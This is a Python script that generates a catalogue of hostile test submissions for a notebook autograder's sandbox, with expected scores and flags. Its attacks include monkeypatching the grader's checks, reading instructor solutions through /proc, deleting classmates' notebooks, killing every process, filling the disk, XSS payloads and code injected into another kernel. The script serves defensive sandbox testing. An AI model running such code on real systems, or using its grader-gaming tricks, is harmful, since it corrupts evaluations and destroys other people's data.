"""Regenerate the attack catalogue: one submitted folder per attack plus expected.json.

    .venv/bin/python tests/attacks/make_attacks.py

Every attack is the ps04_step_by_step release with the solution's answers (an honest student) and
one change.  ``{COURSE}`` in a notebook is replaced by the course's path when the test copies it
(the attacker is assumed to know where the instructor's files are).  Expected outcomes: ``score``
(total out of 10), ``flagged`` (a flag must be raised), ``status`` where it matters.
"""

import copy
import json
import os
import shutil

import nbformat

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(HERE))
A = "ps04_step_by_step"

src = nbformat.read(os.path.join(REPO, "solutions", A, A + ".ipynb"), as_version=4)
release = nbformat.read(os.path.join(REPO, "exercises", A, A + ".ipynb"), as_version=4)
SOL = {c.metadata["nbgrader"]["grade_id"]: c.source for c in src.cells
       if c.metadata.get("nbgrader", {}).get("solution")}


def honest(**answers):
    nb = copy.deepcopy(release)
    for c in nb.cells:
        gid = c.metadata.get("nbgrader", {}).get("grade_id")
        if gid in SOL:
            c.source = answers.get(gid, SOL[gid])
    return nb


def cell(nb, gid):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


WRONG_NORMALISE = ("def normalise(alpha):\n    out = np.zeros_like(alpha)\n    out[np.argmax(alpha)] = 1.0\n"
                   "    return out\n")
attacks = {}

attacks["a00_honest_prints_warns"] = (honest(
    normalise_answer="import time, warnings\nwarnings.warn('this is a harmless warning')\nprint('thinking...')\n"
    "time.sleep(1)\n" + SOL["normalise_answer"]), {"score": 10, "flagged": False})
attacks["a01_patch_comparison"] = (honest(normalise_answer=(
    "import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None\n"
    "try:\n    import torch\n    torch.allclose = lambda *a, **k: True\nexcept ImportError:\n    pass\n"
    "import attn_grader as _g\n_g.check = lambda *a, **k: None\n" + WRONG_NORMALISE)),
    {"score": 8, "flagged": True})
attacks["a02_calls_attn_ref"] = (honest(output_for_query_answer=(
    "from attn_ref.attention import attend_one\n\ndef output_for_query(a, i, W_q, W_k, W_v):\n"
    "    return attend_one(a, i, W_q, W_k, W_v, scale=1.0).b\n")), {"score": 7, "flagged": True})
attacks["a02b_calls_torch_sdpa"] = (honest(output_for_query_answer=(
    "import torch\nimport torch.nn.functional as F\n\ndef output_for_query(a, i, W_q, W_k, W_v):\n"
    "    x = torch.tensor(a.T)\n"
    "    q, k, v = x @ torch.tensor(W_q).T, x @ torch.tensor(W_k).T, x @ torch.tensor(W_v).T\n"
    "    return F.scaled_dot_product_attention(q[None], k[None], v[None], scale=1.0)[0, i].numpy()\n")),
    {"score": 7, "flagged": True})
attacks["a03_kernel_hooks"] = (honest(
    query_key_value_answer=SOL["query_key_value_answer"] + "\nip = get_ipython()\n"
    "ip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n",
    attention_scores_for_query_answer="raise NotImplementedError()",
    normalise_answer="raise NotImplementedError()", output_for_query_answer="raise NotImplementedError()"),
    {"score": 2, "flagged": True})
attacks["a04_shadow_numpy"] = (honest(), {"score": 10, "flagged": True,
                                          "extra_files": {"numpy.py": "raise SystemExit('shadowed')\n"}})
attacks["a05_write_gradebook"] = (honest(query_key_value_answer=SOL["query_key_value_answer"] + (
    "\nimport sqlite3\nfor _p in ['{COURSE}/grades.csv', '{COURSE}/gradebook.db']:\n    try:\n"
    "        with open(_p, 'w') as _f:\n            _f.write('hacked')\n    except Exception:\n        pass\n"
    "try:\n    sqlite3.connect('{COURSE}/gradebook.db').execute('drop table grade')\nexcept Exception:\n    pass\n")),
    {"score": 10, "flagged": True})
attacks["a06_process_outlives"] = (honest(query_key_value_answer=SOL["query_key_value_answer"] + (
    "\nimport subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', "
    "'ATTACK6MARKER'], start_new_session=True)\n"
    "# a daemon that clears its environment and leaves the session (double fork)\n"
    "subprocess.Popen(['/usr/bin/env', '-i', sys.executable, '-c', "
    "'import os, time\\nif os.fork() == 0:\\n    os.setsid()\\n    time.sleep(600)', 'ATTACK6MARKER'])\n")),
    {"score": 10, "flagged": True, "marker": "ATTACK6MARKER"})
attacks["a07_read_solutions"] = (honest(output_for_query_answer=(
    "import json\nfor _c in json.load(open('{COURSE}/solutions/ps04_step_by_step/ps04_step_by_step.ipynb'))['cells']:\n"
    "    if _c['metadata'].get('nbgrader', {}).get('grade_id') == 'output_for_query_answer':\n"
    "        exec(''.join(_c['source']))\n")), {"score": 7, "flagged": True})
attacks["a07b_read_solutions_via_cat"] = (honest(output_for_query_answer=(
    "import json, subprocess\n"
    "_text = subprocess.run(['cat', '{COURSE}/solutions/ps04_step_by_step/ps04_step_by_step.ipynb'],\n"
    "                       capture_output=True, text=True).stdout\n"
    "print(_text)  # would publish the instructor's notebook in the feedback\n"
    "for _c in json.loads(_text)['cells']:\n"
    "    if _c['metadata'].get('nbgrader', {}).get('grade_id') == 'output_for_query_answer':\n"
    "        exec(''.join(_c['source']))\n")), {"score": 7, "flagged": True, "no_leak": True})
nb = honest()
del nb.cells[nb.cells.index(cell(nb, "normalise_test"))]
dup = copy.deepcopy(cell(nb, "query_key_value_test"))
dup.id = "duplicated-test"
nb.cells.append(dup)
cell(nb, "attention_scores_for_query_test").metadata["nbgrader"]["grade_id"] = "renamed_test"
ot = cell(nb, "output_for_query_test")
nb.cells.remove(ot)
nb.cells.insert(2, ot)
cell(nb, "query_key_value_test").metadata["nbgrader"]["points"] = 100
nb.metadata["kernelspec"] = {"name": "evil", "display_name": "evil", "language": "python"}
attacks["a08_tamper_cells"] = (nb, {"score": 10, "flagged": True})
nb = honest()
del cell(nb, "query_key_value_test").metadata["nbgrader"]
cell(nb, "normalise_test").source = "pass"
attacks["a08b_strip_metadata_edit_test"] = (nb, {"score": 10, "flagged": True})
attacks["a09a_infinite_loop"] = (honest(normalise_answer="def normalise(alpha):\n    while True:\n        pass\n"),
                                 {"score": 8, "flagged": False})
attacks["a09b_swallow_interrupt"] = (honest(normalise_answer=SOL["normalise_answer"] + (
    "\nimport time\nwhile True:\n    try:\n        time.sleep(0.5)\n    except KeyboardInterrupt:\n        pass\n")),
    {"score": 5, "flagged": True})
attacks["a09c_sys_exit"] = (honest(
    query_key_value_answer=SOL["query_key_value_answer"] + "\nimport sys\nsys.exit(1)\n"),
    {"score": 10, "flagged": False})
attacks["a09d_os_exit"] = (honest(normalise_answer=SOL["normalise_answer"] + "\nimport os\nos._exit(0)\n"),
                           {"score": 5, "flagged": True})
attacks["a09e_huge_memory"] = (honest(output_for_query_answer=SOL["output_for_query_answer"].replace(
    '    """b^i', '    big = np.ones(2 ** 33)  # 64 GB\n    """b^i')), {"score": 7, "flagged": False})
attacks["a09f_output_flood"] = (honest(query_key_value_answer=SOL["query_key_value_answer"] + (
    "\nfor _i in range(20000):\n    print('x' * 5000)\n")), {"score": 0, "flagged": True})
# --- against the sandbox (issue: grades no submission can forge, erase or stall) -------------------------
attacks["b01_neuter_recheck_guards"] = (honest(output_for_query_answer=(
    "import sys\n"
    "sys.meta_path[:] = [m for m in sys.meta_path if 'Blocker' not in type(m).__name__]  # the guards, away\n"
    "for _name in list(sys.modules):\n"
    "    if 'harness' in _name:\n"
    "        sys.modules[_name].__dict__.clear()\n\n"
    "def output_for_query(a, i, W_q, W_k, W_v):\n"
    "    from attn_ref.attention import attend_one\n"
    "    return attend_one(a, i, W_q, W_k, W_v, scale=1.0).b\n")), {"score": 7, "flagged": True})
attacks["b02_grader_view_through_proc"] = (honest(query_key_value_answer=SOL["query_key_value_answer"] + (
    "\nimport os\nfor _pid in os.listdir('/proc'):\n    if not _pid.isdigit():\n        continue\n"
    "    for _rel, _text in (('grading_results.json', '{}'), ('submitted/a00_honest_prints_warns/ps04_step_by_step/'\n"
    "                        'ps04_step_by_step.ipynb', 'gone'), ('.grader/secret', 'x')):\n"
    "        try:\n            with open(f'/proc/{_pid}/root{COURSE}/' + _rel, 'w') as _f:\n"
    "                _f.write(_text)\n        except OSError:\n            pass\n"
    "    try:\n        print(open(f'/proc/{_pid}/root{COURSE}/solutions/ps04_step_by_step/ps04_step_by_step.ipynb').read())\n"
    "    except OSError:\n        pass\n"
    "    try:\n        _d = os.open(f'/proc/{_pid}/root{COURSE}/solutions', os.O_RDONLY)\n"
    "        print(os.read(os.open('ps04_step_by_step/ps04_step_by_step.ipynb', os.O_RDONLY, dir_fd=_d), 10**6))\n"
    "    except OSError:\n        pass\n")), {"score": 10, "flagged": True, "no_leak": True})
attacks["b03_plant_pth_in_venv"] = (honest(query_key_value_answer=SOL["query_key_value_answer"] + (
    "\nimport glob\nfor _sp in glob.glob('{VENV}/lib/python3*/site-packages'):\n    try:\n"
    "        with open(_sp + '/zz_attack.pth', 'w') as _f:\n"
    "            _f.write('import os; open(\"/tmp/ATTACK_PTH_RAN\", \"w\").close()\\n')\n"
    "    except OSError:\n        pass\n")), {"score": 10, "flagged": True})
def lookup_table() -> str:
    """An answer that knows the notebook's hidden inputs (read from the catalogue in an earlier
    kernel) and returns the reference outputs from a table: right on every input the notebook checks."""
    import numpy as np

    from attn_grader.core import get_task

    task = get_task(A, "output_for_query")
    ns: dict = {}
    exec(next(c.source for c in src.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "setup"), ns)
    big = (np.array([[1.0, -1.0]]), 0, np.array([[40.0]]), np.array([[40.0]]), np.array([[1.0]]))  # visible test
    calls = [(ns["a"], 0, ns["W_q"], ns["W_k"], ns["W_v"]), big, *task.hidden_cases()]

    def key(args):
        return repr([np.round(np.asarray(x, dtype=float), 6).tolist() for x in args])

    table = {key(args): np.asarray(task.reference(*args)).tolist() for args in calls}
    return ("import numpy as np\n\n_TABLE = " + repr(table) + "\n\n"
            "def output_for_query(a, i, W_q, W_k, W_v):\n"
            "    k = repr([np.round(np.asarray(x, dtype=float), 6).tolist() for x in (a, i, W_q, W_k, W_v)])\n"
            "    return np.array(_TABLE[k]) if k in _TABLE else np.zeros(np.shape(W_v)[0])\n")


attacks["b04_hidden_input_lookup"] = (honest(output_for_query_answer=lookup_table()), {"score": 7, "flagged": True})

attacks["b05_dispatcher"] = (honest(output_for_query_answer=(
    "import torch\n\ndef output_for_query(a, i, W_q, W_k, W_v):\n"
    "    x = torch.tensor(a.T)\n"
    "    q, k, v = x @ torch.tensor(W_q).T, x @ torch.tensor(W_k).T, x @ torch.tensor(W_v).T\n"
    "    out = torch.ops.aten._scaled_dot_product_attention_math(q[None], k[None], v[None], scale=1.0)[0]\n"
    "    return out[0, i].numpy()\n")), {"score": 7, "flagged": True})
attacks["b08_read_classmates"] = (honest(query_key_value_answer=SOL["query_key_value_answer"] + (
    "\nimport os\n_found = []\nfor _top in ('/', '{COURSE}', '/tmp', '/proc/1/root'):\n"
    "    for _root, _dirs, _files in os.walk(_top):\n"
    "        _dirs[:] = [d for d in _dirs if d not in ('proc', 'sys', 'dev', 'usr', '.pyenv', 'site-packages')]\n"
    "        for _fn in _files:\n            if _fn.endswith(('.ipynb', '.json', '.db', '.csv')):\n"
    "                try:\n                    _found.append((_root + '/' + _fn, open(_root + '/' + _fn, errors='replace').read()))\n"
    "                except OSError:\n                    pass\n"
    "for _p, _t in _found:\n    print(_p, _t[:20000])\n")), {"score": 10, "flagged": True, "no_leak": True})
attacks["b09_rewrite_grader_state"] = (honest(query_key_value_answer=SOL["query_key_value_answer"] + (
    "\nimport glob\nfor _p in glob.glob('{COURSE}/.grader/**', recursive=True) + glob.glob('/tmp/**', recursive=True):\n"
    "    try:\n        with open(_p, 'w') as _f:\n            _f.write('{}')\n    except OSError:\n        pass\n"
    "for _p in ('{COURSE}/.grader/scratch/policy.json', '{COURSE}/.grader/secret'):\n"
    "    try:\n        open(_p, 'w').write('{}')\n    except OSError:\n        pass\n")), {"score": 10, "flagged": True})
attacks["b10_delete_classmates"] = (honest(query_key_value_answer=SOL["query_key_value_answer"] + (
    "\nimport shutil, os\nshutil.rmtree('{COURSE}/submitted/a00_honest_prints_warns', ignore_errors=True)\n"
    "for _root, _dirs, _files in os.walk('/'):\n    for _fn in _files:\n"
    "        if _fn.endswith('.ipynb'):\n            try:\n                os.remove(os.path.join(_root, _fn))\n"
    "            except OSError:\n                pass\n")), {"score": 10, "flagged": True})
attacks["b11_kill_everything"] = (honest(query_key_value_answer=SOL["query_key_value_answer"] + (
    "\nimport os, signal\nfor _target in (os.getppid(), 1):\n    try:\n        os.kill(_target, signal.SIGKILL)\n"
    "    except OSError:\n        pass\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\n")),
    {"score": 10, "flagged": True})
attacks["b12_fill_the_disk"] = (honest(query_key_value_answer=SOL["query_key_value_answer"] + (
    "\nimport os\n_chunk = b'x' * (1 << 24)\nfor _folder in ('.', '/tmp'):\n    for _k in range(128):  # 2 GB each\n"
    "        try:\n            with open(os.path.join(_folder, f'fill{_k}'), 'wb') as _f:\n"
    "                _f.write(_chunk)\n        except OSError:\n            break\n")), {"score": 10, "flagged": False})
attacks["b13_script_in_outputs"] = (honest(
    query_key_value_answer=SOL["query_key_value_answer"] + (
        "\nfrom IPython.display import HTML, Javascript, SVG, Markdown, display\n"
        "display(HTML('<script>alert(\"XSS-HTML\")</script><img src=x onerror=alert(\"XSS-IMG\")>'))\n"
        "display(Javascript('alert(\"XSS-JS\")'))\n"
        "display(Markdown('<script>alert(\"XSS-MD\")</script>'))\n"
        "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(\"XSS-SVG\")</script></svg>'))\n"),
    normalise_answer="def normalise(alpha):\n    raise ValueError('<script>alert(\"XSS-ERR\")</script>')\n"),
    {"score": 8, "flagged": False, "no_script": True})
# The grader starts the next notebook's kernel while this one runs: find it and plant a broken softmax
# in it (the next student would lose points), or shut it down.  Its box and sockets are not in this
# sandbox's view, so nothing is found and nothing is tried (no socket, no flag).
attacks["b14_reach_the_next_kernel"] = (honest(query_key_value_answer=SOL["query_key_value_answer"] + (
    "\nimport os\nfrom ipykernel import get_connection_file\n"
    "_own = os.path.realpath(get_connection_file())\n_back = os.getcwd()\n_planted = False\n"
    "def _plant(path):\n"
    "    try:\n        from jupyter_client import BlockingKernelClient\n"
    "        os.chdir(os.path.dirname(path))  # IPC sockets are named relative to the kernel's folder\n"
    "        kc = BlockingKernelClient()\n        kc.load_connection_file(path)\n        kc.start_channels()\n"
    "        kc.execute_interactive('import numpy as np; np.exp = lambda x: x * 0', timeout=5)\n"
    "        return True\n    except Exception:\n        return False\n    finally:\n        os.chdir(_back)\n"
    "for _top in (os.path.dirname(os.path.dirname(_own)), '/mnt', '/proc/1/root/mnt', '{COURSE}'):\n"
    "    for _root, _dirs, _files in os.walk(_top):\n"
    "        if _root.count('/') - _top.count('/') >= 3:\n            _dirs[:] = []\n"
    "        _path = os.path.join(_root, 'kernel.json')\n"
    "        if 'kernel.json' in _files and os.path.realpath(_path) != _own:\n"
    "            print('found', _path)\n            _planted = _plant(_path) or _planted\n"
    "    if _planted:\n        break\nprint('planted' if _planted else 'nothing planted')\n")),
    {"score": 10, "flagged": False})
attacks["a10a_corrupt_json"] = (None, {"score": None, "status": "ungradable", "text": '{"cells": [ {"cell_'})
attacks["a10b_empty_folder"] = (None, {"score": None, "status": "ungradable"})

if __name__ == "__main__":
    for name in os.listdir(HERE):
        if name[:1] in "ab" and name[1:3].isdigit() and os.path.isdir(os.path.join(HERE, name)):
            shutil.rmtree(os.path.join(HERE, name))
    expected = {}
    for name, (nb, exp) in attacks.items():
        d = os.path.join(HERE, name)
        os.makedirs(d)
        if nb is not None:
            nbformat.write(nb, os.path.join(d, A + ".ipynb"))
        if "text" in exp:
            with open(os.path.join(d, A + ".ipynb"), "w") as f:
                f.write(exp.pop("text"))
        for fname, text in exp.pop("extra_files", {}).items():
            with open(os.path.join(d, fname), "w") as f:
                f.write(text)
        if not os.listdir(d):
            open(os.path.join(d, ".keep"), "w").close()
        expected[name] = exp
    with open(os.path.join(HERE, "expected.json"), "w") as f:
        json.dump(expected, f, indent=1, sort_keys=True)
